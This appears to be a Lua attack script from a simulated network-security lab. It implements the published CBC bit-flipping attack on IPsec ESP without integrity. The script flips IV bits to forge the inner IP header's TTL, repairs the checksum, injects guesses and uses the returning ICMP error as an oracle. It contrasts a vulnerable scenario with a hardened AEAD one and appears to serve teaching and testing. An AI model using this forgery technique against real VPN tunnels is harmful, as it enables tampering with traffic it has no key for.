-- Encryption without integrity. In CBC mode a bit turned over in the IV turns over the same bit of the first block, and nothing else; and the first
-- block of a tunnelled packet is its IP header, of which everything can be guessed. So the adversary sets the inner TTL to 1, repairs the
-- checksum, and the far gateway obligingly reports, by an ICMP error back through the tunnel, that its forgery was opened and believed.
attack = {
  id = "A26", name = "cbc-flip",
  about = "Turns over bits of the IV, and so changes the inner IP header of an ESP packet that it cannot read",
  position = "on-path",
  needs = "ESP with CBC and no integrity; to guess the inner header",
  source = "Paterson and Yau, Cryptography in Theory and Practice: The Case of Encryption in IPsec (2006); RFC 4303, 3.2.2; catalogue A26",
  shows = {
    vulnerable = "aes256-noauth: one of the guesses is right, the packet dies at the far gateway of the TTL that was forged, and the error comes back",
    hardened = "an AEAD covers IV and header: every forgery is refused as E-ESP-ICV, and nothing comes back",
  },
  scenarios = { vulnerable = "cbc-flip", hardened = "cbc-flip-aead" },
}

-- Parameters: src, dst (of the inner packet), protocol = 17, length (of the inner packet), ttl = 63, ids = 24 (how many to guess)
local inner, ids, iv_size = {}, 24, 16
local template, forged, plain_size, oracle = nil, {}, nil, nil

function on_start(params)
  inner = { src = params.src or "10.1.0.10", dst = params.dst or "10.2.0.10", protocol = tonumber(params.protocol or "17"), ttl = 63,
    length = assert(tonumber(params.length), "parameter length: octets of the inner packet") }
  ids = tonumber(params.ids or ids)
end

-- The first sixteen octets of the inner header as they should be, for an Identification and a TTL.
local function header(id, ttl)
  local octets = string.pack(">I1I1I2I2I2I1I1I2", 0x45, 0, inner.length, id, 0, ttl, inner.protocol, 0) .. inet.address(inner.src) .. inet.address(inner.dst)
  return bytes.patch(octets, 11, string.pack(">I2", inet.checksum(octets)))
end

local function xor(a, b)
  local out = ""
  for i = 1, #a do out = out .. string.char(a:byte(i) ~ b:byte(i)) end
  return out
end

on({ protocol = "ESP" }, function(p)
  local head = esp.header(p.payload)
  if not template then
    template = p
    say("kept one ESP packet of " .. p.size .. " octets; its IV is at octets 9 to 24")
    return timer.after("500ms", "forge")
  end
  if p.from == template.to and p.size ~= template.size and #forged > 0 and not oracle then
    oracle = p.size
    learn("the inside", "a forged header was opened and believed: one of " .. #forged .. " guesses of the Identification was right",
      "an ICMP error of " .. p.size .. " octets came back through the tunnel")
    achieved("change what is inside, unseen", true, "the inner TTL was set to 1 without a key, and the far gateway reported its death")
  end
end)

function on_timer()
  mark("mallory turns over bits in the IV: TTL " .. inner.ttl .. " becomes 1, and the checksum is repaired for each guess of the Identification.")
  local sequence = esp.header(template.payload).sequence
  for id = 0, ids - 1 do
    local mask = xor(header(id, inner.ttl):sub(1, 16), header(id, 1):sub(1, 16))
    local octets = bytes.patch(template.payload, 9, xor(template.payload:sub(9, 24), mask))
    octets = bytes.patch(octets, 5, string.pack(">I4", sequence + 20 + id))    -- nothing covers the sequence number either
    forged[#forged + 1] = id
    inject{ src = template.src, dst = template.dst, protocol = "ESP", to = template.to, payload = octets, after = (id + 1) .. "ms",
      note = "TTL 1 and a checksum to go with it, for Identification " .. id }
  end
end

function on_finish()
  if not oracle then achieved("change what is inside, unseen", false, #forged .. " forgeries, and no answer to any of them") end
end
